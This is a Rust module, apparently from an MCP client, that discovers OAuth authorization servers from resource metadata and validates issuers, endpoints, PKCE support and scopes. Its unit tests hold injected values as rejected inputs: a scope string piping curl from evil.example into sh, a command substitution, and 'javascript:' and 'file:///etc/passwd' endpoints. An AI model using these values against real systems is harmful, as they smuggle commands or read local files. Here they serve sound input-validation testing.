//! From the bare MCP URL to the authorization server that speaks for it.
//!
//! Called by `sign_in`: the URL turns a stranger away and names its metadata (RFC 9728), that names the issuer, whose
//! metadata (RFC 8414, or OpenID Connect Discovery) names the endpoints. Invariants: each document is believed only as
//! far as it says what it was asked for (`resource`, `issuer`, byte for byte); the metadata of the resource is of the
//! resource's own origin; nobody leads to this machine who is not on it. Specification: MCP 2026-07-28 authorization.

use std::time::Duration;

use bailiwick_token::binding::BINDING_ALG;
use http::{HeaderMap, HeaderName, HeaderValue, StatusCode, header};
use serde_json::{Value, json};
use tokio::time::timeout;
use url::Url;

use crate::{challenge::Challenges, fault::Fault, possession::Offers, scope, target::McpUrl, web::Web};

/// For all of it: other bridges of this person wait meanwhile.
const DISCOVERY_WAIT_MAX: Duration = Duration::from_secs(60);
/// Longest issuer, endpoint or scope that is taken over.
const TEXT_BYTES_MAX: usize = 2048;
const WELL_KNOWN: &str = "/.well-known/oauth-protected-resource";
/// What every server with such keys takes, and the one that ours are of.
const DPOP_ALG: &str = "ES256";
pub(crate) const OFFLINE_ACCESS: &str = "offline_access";

/// Who gives tokens for the resource, and where.
#[derive(Clone, Debug)]
pub(crate) struct Authority {
    /// As the resource's own metadata call it.
    pub(crate) resource: String,
    pub(crate) issuer: String,
    pub(crate) authorization_endpoint: Url,
    pub(crate) token_endpoint: Url,
    pub(crate) registration_endpoint: Option<Url>,
    pub(crate) revocation_endpoint: Option<Url>,
    /// RFC 9207: it says with each answer who it is.
    pub(crate) names_itself: bool,
    /// What the resource asks strangers to ask for, and whatever of its own the server wants for a refresh token.
    pub(crate) scope: Option<String>,
    pub(crate) offers: Offers,
}

/// What the resource says of itself.
struct Resource {
    metadata: Value,
    /// It was found where only the root of the host has its metadata.
    is_root: bool,
    scope: Option<String>,
    must_be_dpop: bool,
}

/// Asks up to seven documents, one after the other, within one time for all.
pub(crate) async fn discover(web: &Web, url: &McpUrl) -> Result<Authority, Fault> {
    let found = timeout(DISCOVERY_WAIT_MAX, Box::pin(documents(web, url))).await;
    found.unwrap_or_else(|_elapsed| Err(Fault::unreachable(url.url())))
}

async fn documents(web: &Web, url: &McpUrl) -> Result<Authority, Fault> {
    let resource = resource(web, url).await?;
    let at = |what| Fault::answer(url.url(), what);
    let name = text(&resource.metadata, "resource").ok_or(at("its metadata names no resource"))?;
    if name.trim_end_matches('/') != url.resource() && !(resource.is_root && is_root_of(name, url)) {
        return Err(at("its metadata is of another resource"));
    }
    let issuer =
        resource.metadata.pointer("/authorization_servers/0").and_then(Value::as_str).filter(|text| is_short(text));
    let issuer = issuer.ok_or(at("its metadata names no authorization server"))?;
    let issuer_url = allowed(url, issuer).ok_or(at("it names an authorization server that is not to be asked"))?;
    if issuer_url.query().is_some() {
        return Err(at("its authorization server's name has a query"));
    }
    let found = server_metadata(web, issuer, &issuer_url).await?;
    authority(url, issuer, &issuer_url, &found, &resource)
}

/// What the resource says to a stranger who wants a stream, or a list of tools where it has no streams.
async fn challenges(web: &Web, url: &McpUrl) -> Result<Challenges, Fault> {
    let response = web.head(url.url()).await?;
    if response.status() == StatusCode::UNAUTHORIZED {
        return Ok(Challenges::of(response.headers()));
    }
    drop(response);
    let (headers, body) = stranger();
    let response = web.post(url.url(), headers, &body).await?;
    let is_turned_away = response.status() == StatusCode::UNAUTHORIZED;
    Ok(if is_turned_away { Challenges::of(response.headers()) } else { Challenges::default() })
}

/// A request that changes nothing, wherever it is answered.
fn stranger() -> (HeaderMap, Value) {
    const VERSION: &str = "2026-07-28";
    let headers = [
        (header::CONTENT_TYPE, "application/json"),
        (header::ACCEPT, "application/json, text/event-stream"),
        (HeaderName::from_static("mcp-protocol-version"), VERSION),
        (HeaderName::from_static("mcp-method"), "tools/list"),
    ];
    let meta = json!({
        "io.modelcontextprotocol/protocolVersion": VERSION, "io.modelcontextprotocol/clientCapabilities": {},
    });
    let body = json!({"jsonrpc": "2.0", "id": 0, "method": "tools/list", "params": {"_meta": meta}});
    (headers.into_iter().map(|(name, value)| (name, HeaderValue::from_static(value))).collect(), body)
}

async fn resource(web: &Web, url: &McpUrl) -> Result<Resource, Fault> {
    let said = challenges(web, url).await?;
    let named = said.get("resource_metadata");
    let places = match named {
        Some(named) => {
            let at = Url::parse(named).ok().filter(|at| at.origin() == url.url().origin());
            vec![at.ok_or(Fault::answer(url.url(), "its metadata is said to be with another host"))?]
        }
        None => usual_places(url.url()),
    };
    for place in places {
        let document = web.get(&place).await?;
        if document.status == StatusCode::OK && document.body.is_object() {
            let metadata = document.body;
            let takes_envelopes = has_word(&metadata, "bailiwick_binding_algs_supported", BINDING_ALG);
            let wants_keys = metadata.get("dpop_bound_access_tokens_required") == Some(&Value::Bool(true));
            return Ok(Resource {
                is_root: named.is_none() && place.path() == WELL_KNOWN,
                scope: scope_to_ask_for(&said, &metadata),
                must_be_dpop: said.asks_for_dpop_alone() || (wants_keys && !takes_envelopes),
                metadata,
            });
        }
    }
    Err(Fault::answer(url.url(), "it has no protected-resource metadata; is this the MCP URL?"))
}

/// Whether a host speaks for all that it has.
fn is_root_of(name: &str, url: &McpUrl) -> bool {
    let is_bare = |root: &Url| root.path() == "/" && root.query().is_none() && root.fragment().is_none();
    Url::parse(name).is_ok_and(|root| root.origin() == url.url().origin() && is_bare(&root))
}

/// RFC 9728 §3.1, then the root.
fn usual_places(url: &Url) -> Vec<Url> {
    let path = url.path().trim_end_matches('/');
    let mut places: Vec<Url> =
        [format!("{WELL_KNOWN}{path}"), WELL_KNOWN.to_owned()].iter().filter_map(|path| url.join(path).ok()).collect();
    places.dedup();
    places
}

/// The issuer's metadata, which must say that it is the issuer's.
async fn server_metadata(web: &Web, issuer: &str, url: &Url) -> Result<Value, Fault> {
    let path = url.path().trim_end_matches('/');
    let places = [
        format!("/.well-known/oauth-authorization-server{path}"),
        format!("/.well-known/openid-configuration{path}"),
        format!("{path}/.well-known/openid-configuration"),
    ];
    for place in places.iter().filter_map(|path| url.join(path).ok()) {
        let document = web.get(&place).await?;
        if document.status != StatusCode::OK || !document.body.is_object() {
            continue;
        }
        if document.body.get("issuer").and_then(Value::as_str) != Some(issuer) {
            return Err(Fault::answer(url, "its metadata is of another issuer"));
        }
        return Ok(document.body);
    }
    Err(Fault::answer(url, "it has no authorization-server metadata"))
}

fn authority(
    url: &McpUrl,
    issuer: &str,
    issuer_url: &Url,
    found: &Value,
    resource: &Resource,
) -> Result<Authority, Fault> {
    let at = |what| Fault::answer(issuer_url, what);
    let endpoint = |name: &str| match text(found, name) {
        None => Ok(None),
        Some(text) => allowed(url, text).map(Some).ok_or(at("it names an endpoint that is not to be asked")),
    };
    let methods = found.get("code_challenge_methods_supported").and_then(Value::as_array);
    if !methods.is_some_and(|methods| methods.iter().any(|method| method == "S256")) {
        return Err(at("it does not say that it checks PKCE with S256"));
    }
    let offers = Offers {
        envelope: has_word(found, "bailiwick_binding_algs_supported", BINDING_ALG),
        dpop: has_word(found, "dpop_signing_alg_values_supported", DPOP_ALG),
        must_be_dpop: resource.must_be_dpop,
    };
    let offline = has_word(found, "scopes_supported", OFFLINE_ACCESS);
    let is_offline = |scope: &str| scope.split(' ').any(|word| word == OFFLINE_ACCESS);
    let scope = resource
        .scope
        .clone()
        .map(|scope| if offline && !is_offline(&scope) { format!("{scope} {OFFLINE_ACCESS}") } else { scope });
    Ok(Authority {
        resource: text(&resource.metadata, "resource").unwrap_or(url.resource()).to_owned(),
        issuer: issuer.to_owned(),
        authorization_endpoint: endpoint("authorization_endpoint")?.ok_or(at("it has no authorization endpoint"))?,
        token_endpoint: endpoint("token_endpoint")?.ok_or(at("it has no token endpoint"))?,
        registration_endpoint: endpoint("registration_endpoint")?,
        revocation_endpoint: endpoint("revocation_endpoint")?,
        names_itself: found.get("authorization_response_iss_parameter_supported") == Some(&Value::Bool(true)),
        scope,
        offers,
    })
}

fn has_word(value: &Value, name: &str, word: &str) -> bool {
    value.get(name).and_then(Value::as_array).is_some_and(|words| words.iter().any(|known| known == word))
}

/// As the resource says it with its refusal, else in its metadata.
fn scope_to_ask_for(said: &Challenges, metadata: &Value) -> Option<String> {
    let scope = match said.get("scope").filter(|scope| is_short(scope)) {
        Some(scope) => scope::of_names(scope),
        None => {
            let all = metadata.get("scopes_supported")?.as_array()?.iter().filter_map(Value::as_str);
            all.filter(|word| scope::is_name(word)).collect::<Vec<_>>().join(" ")
        }
    };
    Some(scope).filter(|scope| !scope.is_empty() && is_short(scope))
}

fn allowed(from: &McpUrl, text: &str) -> Option<Url> {
    Url::parse(text).ok().filter(|url| is_short(text) && from.may_lead_to(url))
}

fn text<'a>(value: &'a Value, name: &str) -> Option<&'a str> {
    value.get(name).and_then(Value::as_str).filter(|text| is_short(text))
}

const fn is_short(text: &str) -> bool {
    text.len() <= TEXT_BYTES_MAX
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn read(found: &Value) -> Result<Authority, Fault> {
        let url = McpUrl::parse("https://mcp.example/mcp/shop").unwrap();
        let (metadata, scope) = (json!({"resource": url.resource()}), Some("a b".to_owned()));
        let resource = Resource { metadata, is_root: false, scope, must_be_dpop: false };
        authority(&url, "https://login.example", &Url::parse("https://login.example").unwrap(), found, &resource)
    }

    fn good() -> Value {
        json!({
            "authorization_endpoint": "https://login.example/a", "token_endpoint": "https://login.example/t",
            "code_challenge_methods_supported": ["S256"], "authorization_response_iss_parameter_supported": true,
        })
    }

    #[tokio::test]
    async fn a_server_that_never_answers_is_not_waited_for() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = McpUrl::parse(&format!("http://{}/mcp", listener.local_addr().unwrap())).unwrap();
        let web = Web::that_waits(Duration::from_millis(50)).unwrap();
        let found = timeout(Duration::from_secs(10), discover(&web, &url)).await.unwrap();
        assert!(matches!(found, Err(Fault::Unreachable { .. })), "{found:?}");
    }

    #[test]
    fn metadata_lies_where_the_specification_says() {
        let places =
            |url: &str| usual_places(&Url::parse(url).unwrap()).iter().map(ToString::to_string).collect::<Vec<_>>();
        let root = "https://h.example/.well-known/oauth-protected-resource";
        assert_eq!(places("https://h.example/mcp/shop"), [format!("{root}/mcp/shop"), root.to_owned()]);
        assert_eq!(places("https://h.example/"), [root]);
    }

    #[test]
    fn what_the_server_offers_is_asked_for() {
        let mut found = good();
        found["dpop_signing_alg_values_supported"] = json!(["EdDSA"]);
        assert!(!read(&found).unwrap().offers.dpop, "none that we have");
        found["dpop_signing_alg_values_supported"] = json!(["EdDSA", "ES256"]);
        found["bailiwick_binding_algs_supported"] = json!(["aes-256-gcm"]);
        found["scopes_supported"] = json!(["a", "offline_access"]);
        let authority = read(&found).unwrap();
        assert_eq!(authority.offers, Offers { envelope: true, dpop: true, must_be_dpop: false });
        assert_eq!(authority.scope.as_deref(), Some("a b offline_access"));
    }

    #[test]
    fn what_is_no_name_of_a_scope_is_not_asked_for() {
        let metadata = json!({"scopes_supported": ["a", "'!';curl${IFS}evil.example|sh;'", "b c", 1, "d"]});
        let asked = |challenge: &'static str| {
            let headers = [(header::WWW_AUTHENTICATE, HeaderValue::from_static(challenge))];
            scope_to_ask_for(&Challenges::of(&headers.into_iter().collect()), &metadata)
        };
        assert_eq!(asked("Bearer").as_deref(), Some("a d"));
        assert_eq!(asked(r#"Bearer scope="x $(y) z""#).as_deref(), Some("x z"));
        assert_eq!(asked(r#"Bearer scope="'x'""#), None, "nor more than it says");
    }

    #[test]
    fn a_host_speaks_for_its_own_paths_alone() {
        let url = McpUrl::parse("https://mcp.example/mcp/shop").unwrap();
        for (name, is_root) in [
            ("https://mcp.example", true),
            ("https://mcp.example/", true),
            ("https://mcp.example/mcp", false),
            ("https://mcp.example:8443/", false),
            ("http://mcp.example/", false),
            ("https://evil.example/", false),
        ] {
            assert_eq!(is_root_of(name, &url), is_root, "{name}");
        }
    }

    #[test]
    fn endpoints_that_are_not_safe_are_not_used() {
        let authority = read(&good()).unwrap();
        assert!(authority.names_itself && authority.registration_endpoint.is_none());
        assert_eq!((authority.scope.as_deref(), authority.offers), (Some("a b"), Offers::default()));
        for (name, value) in [
            ("token_endpoint", json!("http://login.example/t")),
            ("token_endpoint", json!("https://127.0.0.1:9/t")),
            ("authorization_endpoint", json!("javascript:alert(1)")),
            ("registration_endpoint", json!("file:///etc/passwd")),
            ("code_challenge_methods_supported", json!(["plain"])),
            ("code_challenge_methods_supported", Value::Null),
            ("token_endpoint", Value::Null),
        ] {
            let mut bad = good();
            bad[name] = value;
            assert!(read(&bad).is_err(), "{bad}");
        }
    }
}
